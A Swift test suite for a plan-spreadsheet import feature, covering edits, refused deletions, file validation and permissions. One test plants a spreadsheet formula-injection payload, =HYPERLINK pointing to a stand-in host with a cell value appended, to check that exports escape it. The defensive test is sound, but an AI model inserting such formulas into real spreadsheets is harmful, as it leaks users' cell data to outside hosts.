@testable import App
import CTGCore
import Fluent
import Foundation
import Testing
import Vapor
import VaporTesting

/// Issue 8 §4: the plan exported to XLSX or CSV, edited, and imported back by a coordinateur.
@Suite struct PlanSheetImportTests {
    @Test func theUnchangedExportChangesNothing() async throws {
        try await withApp { app in
            let browser = try await signIn(app, as: .coordinateur)
            let rows = try await PlanSheetFixture.exportedXLSX(browser)
            #expect(rows[0] == PlanSheet.header)
            let journal = try await AuditEntry.query(on: app.db).count()
            let res = try await PlanSheetFixture.upload(browser, try PlanSheetFixture.xlsx(rows), filename: "plan.xlsx")
            #expect(res.status == .ok)
            #expect(res.body.string.contains("Le fichier est identique au plan : rien n&#39;a changé."))
            #expect(try await AuditEntry.query(on: app.db).count() == journal)
        }
    }

    @Test func anEditedWorkbookChangesThePlanAndKeepsItsFollowUp() async throws {
        try await withApp { app in
            try await ImportGuardFixture.enterFollowUp(app)
            let statuses = try await SousActionStatusEntry.query(on: app.db).count()
            let browser = try await signIn(app, as: .coordinateur)
            var rows = try await PlanSheetFixture.exportedXLSX(browser)
            let b = PlanSheetFixture.index(of: "2-1-1-B", in: rows)
            rows[b][5] = "Harmoniser les tarifs des accueils de loisirs"
            rows[b][6] = "2024, 2025"
            var added = rows[b]
            added[4] = "2-1-1-Z"
            added[5] = "Publier une grille commune"
            added[6] = "2026"
            rows.insert(added, at: b + 1)
            rows.append(["Axe 9 — Axe d'essai", "Objectif 9-1 : Objectif d'essai", "9-1-1", "Fiche d'essai", "9-1-1-A",
                         "Première sous-action d'essai", "2025", "", "", "Une personne", ""])
            let res = try await PlanSheetFixture.upload(browser, try PlanSheetFixture.xlsx(rows), filename: "plan modifié.xlsx")
            #expect(res.status == .ok)
            let page = res.body.string
            #expect(page.contains("Plan importé : 6 modifications."))
            #expect(page.contains("Sous-action 2-1-1-Z ajoutée"))
            let edited = try #require(try await PlanSheetFixture.sousAction("2-1-1-B", app))
            #expect(edited.title == "Harmoniser les tarifs des accueils de loisirs")
            #expect(edited.years == [2024, 2025])
            #expect(try await PlanSheetFixture.sousAction("2-1-1-Z", app)?.title == "Publier une grille commune")
            #expect(try await PlanSheetFixture.sousAction("9-1-1-A", app)?.staff == "Une personne")
            #expect(try await Axe.query(on: app.db).filter(\.$number == 9).first()?.title == "Axe d'essai")
            #expect(try await SousAction.query(on: app.db).count() == 48)
            // The edited sous-action kept its row, so its status stayed with it.
            #expect(try await SousActionStatusEntry.query(on: app.db).count() == statuses)
            let entry = try #require(try await AuditEntry.query(on: app.db).filter(\.$entity == .planImport).first())
            #expect(entry.summary.hasPrefix("Import du tableur « plan modifié.xlsx » : 6 modifications."))
            #expect(try await PlanBackup.query(on: app.db).count() == 1)
        }
    }

    @Test func removingAFollowedSousActionIsRefusedThenReplacedOnRequest() async throws {
        try await withApp { app in
            try await ImportGuardFixture.enterFollowUp(app)
            let browser = try await signIn(app, as: .coordinateur)
            var rows = try await PlanSheetFixture.exportedXLSX(browser)
            rows.remove(at: PlanSheetFixture.index(of: "1-1-1-B", in: rows))
            let file = try PlanSheetFixture.xlsx(rows)
            let refused = try await PlanSheetFixture.upload(browser, file, filename: "plan.xlsx")
            #expect(refused.status == .unprocessableEntity)
            #expect(refused.body.string.contains("Import refusé : 1 sous-action"))
            #expect(refused.body.string.contains("1 statut"))
            #expect(refused.body.string.contains("Remplacer malgré tout"))
            #expect(try await SousAction.query(on: app.db).count() == 46)
            #expect(try await PlanBackup.query(on: app.db).count() == 0)

            let replaced = try await PlanSheetFixture.upload(browser, file, filename: "plan.xlsx", fields: ["replace": "1"])
            #expect(replaced.status == .ok)
            #expect(replaced.body.string.contains("Sous-action 1-1-1-B supprimée"))
            #expect(try await SousAction.query(on: app.db).count() == 45)
            let snapshot = try #require(try await PlanBackup.query(on: app.db).first())
            #expect(replaced.body.string.contains("instantané n° \(try snapshot.requireID())"))
            let entry = try #require(try await AuditEntry.query(on: app.db).filter(\.$entity == .planImport).first())
            #expect(entry.summary.contains("(remplacement)"))
        }
    }

    @Test func everyErrorOfTheFileIsShownAndNothingIsWritten() async throws {
        try await withApp { app in
            let browser = try await signIn(app, as: .coordinateur)
            var rows = try await PlanSheetFixture.exportedXLSX(browser)
            let b = PlanSheetFixture.index(of: "2-1-1-B", in: rows)
            rows[b][4] = "1-2-x"
            rows[b][5] = "Titre changé"
            let a = PlanSheetFixture.index(of: "1-1-1-A", in: rows)
            rows[a][6] = "l'an prochain"
            let res = try await PlanSheetFixture.upload(browser, try PlanSheetFixture.xlsx(rows), filename: "plan.xlsx")
            #expect(res.status == .unprocessableEntity)
            let page = res.body.string
            #expect(page.contains("ligne \(b + 1), colonne « Code sous-action » : « 1-2-x » n&#39;est pas un code de sous-action"))
            #expect(page.contains("ligne \(a + 1), colonne « Années » : « l&#39;an » n&#39;est pas une année"))
            #expect(try await PlanSheetFixture.sousAction("2-1-1-B", app)?.title == "Harmoniser les tarifs")
        }
    }

    @Test func theCSVExportComesBackEdited() async throws {
        try await withApp { app in
            let browser = try await signIn(app, as: .coordinateur)
            var rows = try await PlanSheetFixture.exportedCSV(browser)
            let b = PlanSheetFixture.index(of: "2-1-1-B", in: rows)
            rows[b][5] = "Harmoniser les tarifs (CSV)"
            let csv = try CSVExport.render(header: rows[0], rows: Array(rows.dropFirst()))
            let res = try await PlanSheetFixture.upload(browser, csv, filename: "plan.csv")
            #expect(res.status == .ok)
            #expect(res.body.string.contains("Plan importé : 1 modification."))
            #expect(try await PlanSheetFixture.sousAction("2-1-1-B", app)?.title == "Harmoniser les tarifs (CSV)")
        }
    }

    @Test(arguments: [
        ("plan.xlsx", Data(), "Le fichier est vide (0 octet) : ce n&#39;est pas un classeur XLSX."),
        ("rapport.pdf", Data("%PDF-1.4 rapport".utf8), "« rapport.pdf » n&#39;est ni un classeur XLSX ni un fichier CSV"),
        ("plan.xlsx", Data("Axe;Objectif".utf8), "Ce fichier n&#39;est pas un classeur XLSX (un classeur est une archive ZIP)"),
        ("plan.xlsx", Data([0x50, 0x4B, 0x03, 0x04, 0x14, 0x00, 0x00]), "Le classeur XLSX est endommagé"),
    ])
    func filesThatAreNotPlansAreRefusedInFrench(name: String, data: Data, message: String) async throws {
        try await withApp { app in
            let browser = try await signIn(app, as: .coordinateur)
            let res = try await PlanSheetFixture.upload(browser, data, filename: name)
            #expect(res.status == .unprocessableEntity)
            #expect(res.body.string.contains(message))
            #expect(try await SousAction.query(on: app.db).count() == 46)
        }
    }

    @Test func formulasAreTextInTheWorkbookAndComeBackAsTyped() async throws {
        try await withApp { app in
            let action = try #require(try await PlanAction.query(on: app.db).filter(\.$code == "1-1-1").first())
            action.title = "=HYPERLINK(\"http://exemple.invalid/?\"&A1)"
            try await action.save(on: app.db)
            let browser = try await signIn(app, as: .coordinateur)
            let rows = try await PlanSheetFixture.exportedXLSX(browser)
            let row = try #require(rows.first { $0[2] == "1-1-1" })
            #expect(row[3] == "'=HYPERLINK(\"http://exemple.invalid/?\"&A1)")
            let res = try await PlanSheetFixture.upload(browser, try PlanSheetFixture.xlsx(rows), filename: "plan.xlsx")
            #expect(res.body.string.contains("rien n&#39;a changé"))
        }
    }

    @Test func onlyACoordinateurImports() async throws {
        try await withApp { app in
            let reader = try await signIn(app, as: .lecteur)
            let rows = try await PlanSheetFixture.exportedXLSX(reader)
            #expect(!(try await reader.get(Seed.path(.plan))).body.string.contains("Importer le plan"))
            let res = try await PlanSheetFixture.upload(reader, try PlanSheetFixture.xlsx(rows), filename: "plan.xlsx")
            #expect(res.status == .forbidden || res.status == .seeOther)
            let coordinateur = try await signIn(app, as: .coordinateur)
            #expect(try await coordinateur.get(Seed.path(.plan)).body.string.contains("Importer le plan"))
        }
    }
}
